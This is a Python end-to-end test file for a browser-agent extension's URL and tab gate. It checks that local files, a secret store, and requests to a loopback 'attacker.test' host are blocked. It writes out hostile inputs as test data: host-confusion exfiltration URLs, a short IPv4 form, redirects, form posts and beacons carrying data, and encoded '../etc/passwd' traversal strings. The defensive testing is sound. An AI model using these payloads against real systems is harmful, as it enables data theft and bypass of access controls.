"""The gate, where the browser acts: the extension judges every URL it is about to load on the
browser's own parse (WHATWG `URL`) and blocks the disallowed hosts in the run's tabs with
declarativeNetRequest rules before a request leaves; a run switches only to its own tabs.

Requests go through the host's `act` method, as every driver's do. "allowed.test" and
"attacker.test" are loopback sites the test browser resolves to 127.0.0.1; the attacker's log
holds every request that reached it."""

from __future__ import annotations

from contextlib import contextmanager
from typing import Any, AsyncIterator, Iterator

import pytest
import pytest_asyncio

from tests.e2e.dispatch_helpers import act, open_page, ref, snapshot, tab_id_of
from tests.logging_site import LoggingSite
from waymark.host.core.secrets_store import store_path
from waymark.host.settings import load_settings, save_settings, settings_path

pytestmark = pytest.mark.asyncio(loop_scope="session")


@contextmanager
def saved_settings(**update: Any) -> Iterator[None]:
    """The user's saved settings with `update`, put back as they were afterwards."""
    path = settings_path()
    saved = path.read_text(encoding="utf-8") if path.exists() else None
    save_settings(load_settings().model_copy(update=update))
    try:
        yield
    finally:
        if saved is None:
            path.unlink(missing_ok=True)
        else:
            path.write_text(saved, encoding="utf-8")


@pytest.fixture
def attacker_blocked() -> Iterator[None]:
    """The user's saved settings block attacker.test (the floor of every act request's gate)."""
    with saved_settings(block_domains=["attacker.test"]):
        yield


async def current_url(sw: Any, tab: int) -> str:
    return str(await sw.evaluate("async (id) => { const t = await chrome.tabs.get(id); return t.pendingUrl || t.url; }", tab))


async def start_on(sw: Any, page: Any, site: LoggingSite) -> int:
    """Open the allowed site's home page in the test's tab; the tab's id."""
    tab, _ = await open_page(sw, page, f"{site.url}/")
    return tab


ALLOW = {"allow_domains": ["allowed.test"]}
#: Whether a tab has network rules of its own, asked until it has (the copy is asynchronous) or 2 s passed.
HAS_RULES = """async (id) => {
  for (let i = 0; i < 200; i++) {
    if ((await chrome.declarativeNetRequest.getSessionRules()).some((r) => r.condition.tabIds?.includes(id))) return true;
    await new Promise((r) => setTimeout(r, 10));
  }
  return false;
}"""


@pytest.mark.parametrize("gate", [None, ALLOW], ids=["no-lists", "allow-list"])
@pytest.mark.parametrize("kind", ["navigate", "new_tab"])
async def test_a_local_folder_is_refused(sw, page, allowed_site, gate, kind):
    tab = await start_on(sw, page, allowed_site)
    result = await act(sw, tab, {"type": kind, "url": "file:///etc/"}, snapshot=None, **({"gate": gate} if gate else {}))
    assert result.error is not None and result.error.code == "url_refused", result
    assert result.error.message == "local files are off: the user's settings list no file folders"
    assert await current_url(sw, tab) == f"{allowed_site.url}/"
    assert not await sw.evaluate("async () => (await chrome.tabs.query({})).some(t => (t.pendingUrl || t.url || '').startsWith('file:'))")


@pytest.mark.parametrize("gate", [None, ALLOW], ids=["no-lists", "allow-list"])
async def test_the_secret_store_file_is_refused(sw, page, allowed_site, gate):
    tab = await start_on(sw, page, allowed_site)
    store_path().parent.mkdir(parents=True, exist_ok=True)
    store_path().write_text('{"FAKE_TOKEN": "fake-secret-value"}', encoding="utf-8")
    result = await act(sw, tab, {"type": "navigate", "url": store_path().as_uri()}, **({"gate": gate} if gate else {}))
    assert result.error is not None and result.error.code == "url_refused"
    assert "fake-secret-value" not in result.model_dump_json()
    assert await current_url(sw, tab) == f"{allowed_site.url}/"


def attack_urls(attacker: LoggingSite, allowed: LoggingSite) -> dict[str, str]:
    """URLs Python's urlsplit reads as another host than the browser does, each carrying data."""
    return {
        # urlsplit: host allowed.test; the browser: `\` is `/`, so the host is attacker.test.
        "backslash": f"http://attacker.test:{attacker.port}\\@allowed.test:{allowed.port}/?d=data",
        "trailing-dot": f"http://attacker.test.:{attacker.port}/?d=data",
        "full-width-dot": f"http://attacker\uff0etest:{attacker.port}/?d=data",
    }


@pytest.mark.parametrize("form", ["backslash", "trailing-dot", "full-width-dot"])
async def test_a_url_the_browser_reads_as_a_blocked_host_is_refused(sw, page, allowed_site, attacker_site, attacker_blocked, form):
    tab = await start_on(sw, page, allowed_site)
    url = attack_urls(attacker_site, allowed_site)[form]
    result = await act(sw, tab, {"type": "navigate", "url": url}, snapshot=None)
    assert result.error is not None and result.error.code == "url_refused", result
    assert result.error.message == "attacker.test is on the block list"
    assert attacker_site.log == []


async def test_a_short_ipv4_form_of_a_host_off_the_allow_list_is_refused(sw, page, allowed_site, attacker_site):
    tab = await start_on(sw, page, allowed_site)
    result = await act(sw, tab, {"type": "navigate", "url": f"http://127.1:{attacker_site.port}/?d=data"}, snapshot=None, gate=ALLOW)
    assert result.error is not None and result.error.code == "url_refused"
    # The browser's parse, named: 127.1 is 127.0.0.1.
    assert result.error.message == "127.0.0.1 is not on the allow list"
    assert attacker_site.log == []


async def test_a_redirect_from_an_allowed_page_to_a_blocked_host_never_reaches_it(sw, page, allowed_site, attacker_site, attacker_blocked):
    allowed_site.redirects["/go"] = f"{attacker_site.url}/collect?d=data"
    tab = await start_on(sw, page, allowed_site)
    await act(sw, tab, {"type": "navigate", "url": f"{allowed_site.url}/go"}, snapshot=None)
    assert allowed_site.requests_for("/go")
    assert attacker_site.log == []


async def test_a_form_post_to_a_host_off_the_allow_list_never_reaches_it(sw, page, allowed_site, attacker_site):
    allowed_site.pages["/form"] = (f'<!doctype html><title>Form</title><form method="post" action="{attacker_site.url}/collect">'
                                   '<input name="d" value="data" aria-label="Data"><button>Send it</button></form>')
    tab = await start_on(sw, page, allowed_site)
    await act(sw, tab, {"type": "navigate", "url": f"{allowed_site.url}/form"}, snapshot=None, gate=ALLOW)
    await page.wait_for_selector("text=Send it")
    await act(sw, tab, {"type": "click", "ref": ref(await snapshot(sw, tab), "Send it")}, snapshot=None, gate=ALLOW)
    assert allowed_site.requests_for("/form")
    assert attacker_site.log == []


async def test_an_image_beacon_to_a_blocked_host_never_reaches_it(sw, page, allowed_site, attacker_site, attacker_blocked):
    # The title says when both images have finished (loaded or failed): the beacon was attempted.
    allowed_site.pages["/beacon"] = (
        '<!doctype html><title>Beacon</title><script>let left = 2; const one = () => { if (--left === 0) document.title = "finished"; };</script>'
        f'<img src="{allowed_site.url}/pixel" onload="one()" onerror="one()">'
        f'<img src="{attacker_site.url}/pixel?d=data" onload="one()" onerror="one()">')
    tab = await start_on(sw, page, allowed_site)
    await act(sw, tab, {"type": "navigate", "url": f"{allowed_site.url}/beacon"}, snapshot=None)
    await page.wait_for_function("() => document.title === 'finished'")
    assert allowed_site.requests_for("/pixel")
    assert attacker_site.log == []


async def test_a_popup_of_a_gated_tab_inherits_its_blocks(sw, page, browser, allowed_site, attacker_site, attacker_blocked):
    allowed_site.pages["/opener"] = '<!doctype html><title>Opener</title><a href="/leak" target="_blank">Open it</a>'
    allowed_site.pages["/leak"] = f'<!doctype html><title>Leak</title><a href="{attacker_site.url}/collect?d=data">Continue</a>'
    tab = await start_on(sw, page, allowed_site)
    await act(sw, tab, {"type": "navigate", "url": f"{allowed_site.url}/opener"}, snapshot=None)
    await page.wait_for_selector("text=Open it")
    async with browser.context.expect_page() as popup_info:
        await act(sw, tab, {"type": "click", "ref": ref(await snapshot(sw, tab), "Open it")}, snapshot=None)
    popup = await popup_info.value
    try:
        await popup.wait_for_load_state()
        popup_tab = await tab_id_of(sw, popup)
        # The popup's tab holds the opener's rules (copied as Chrome created it) ...
        assert await sw.evaluate(HAS_RULES, popup_tab)
        # ... so a link the page there follows on its own (no act request sets them) is blocked too.
        await popup.click("text=Continue")
        await popup.wait_for_load_state()
        assert attacker_site.log == []
    finally:
        await popup.close()


@pytest_asyncio.fixture(loop_scope="session")
async def users_tab(sw, browser, allowed_site) -> AsyncIterator[tuple[Any, int]]:
    """A tab of the user's own (their inbox), which no run opened: its page and its tab id."""
    users = await browser.context.new_page()
    await users.goto(f"{allowed_site.url}/inbox")
    yield users, await tab_id_of(sw, users)
    await users.close()


async def test_switch_tab_into_a_tab_the_run_did_not_open_is_refused(sw, page, allowed_site, users_tab):
    own = await start_on(sw, page, allowed_site)
    result = await act(sw, own, {"type": "switch_tab", "tab_id": users_tab[1]}, snapshot=None, gate={"tabs": [own]})
    assert result.error is not None and result.error.code == "tab_refused"
    assert result.tab_id == own


async def test_close_tab_of_a_tab_the_run_did_not_open_is_refused(sw, page, allowed_site, users_tab):
    own = await start_on(sw, page, allowed_site)
    result = await act(sw, own, {"type": "close_tab", "tab_id": users_tab[1]}, snapshot=None, gate={"tabs": [own]})
    assert result.error is not None and result.error.code == "tab_refused"
    assert not users_tab[0].is_closed()

@pytest.fixture
def files_folder(tmp_path) -> Iterator[Any]:
    """A folder the user's settings list in file_folders, holding one page."""
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "note.html").write_text("<!doctype html><title>Local note</title><p>note</p>", encoding="utf-8")
    with saved_settings(file_folders=[str(folder)]):
        yield folder


async def test_a_file_inside_a_folder_the_settings_list_opens(sw, page, allowed_site, files_folder):
    tab = await start_on(sw, page, allowed_site)
    url = (files_folder / "note.html").as_uri()
    result = await act(sw, tab, {"type": "navigate", "url": url}, snapshot=None, gate={"file_folders": [str(files_folder)]})
    assert result.ok, result.error
    assert await current_url(sw, tab) == url


@pytest.mark.parametrize("tail", ["../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e/%2e%2e/etc/passwd"])
async def test_a_file_url_that_climbs_out_of_the_listed_folder_is_refused(sw, page, allowed_site, files_folder, tail):
    tab = await start_on(sw, page, allowed_site)
    result = await act(sw, tab, {"type": "navigate", "url": f"{files_folder.as_uri()}/{tail}"}, snapshot=None,
                       gate={"file_folders": [str(files_folder)]})
    assert result.error is not None and result.error.code == "url_refused"
    assert result.error.message == "that local file is outside the folders the user allowed"
    assert await current_url(sw, tab) == f"{allowed_site.url}/"
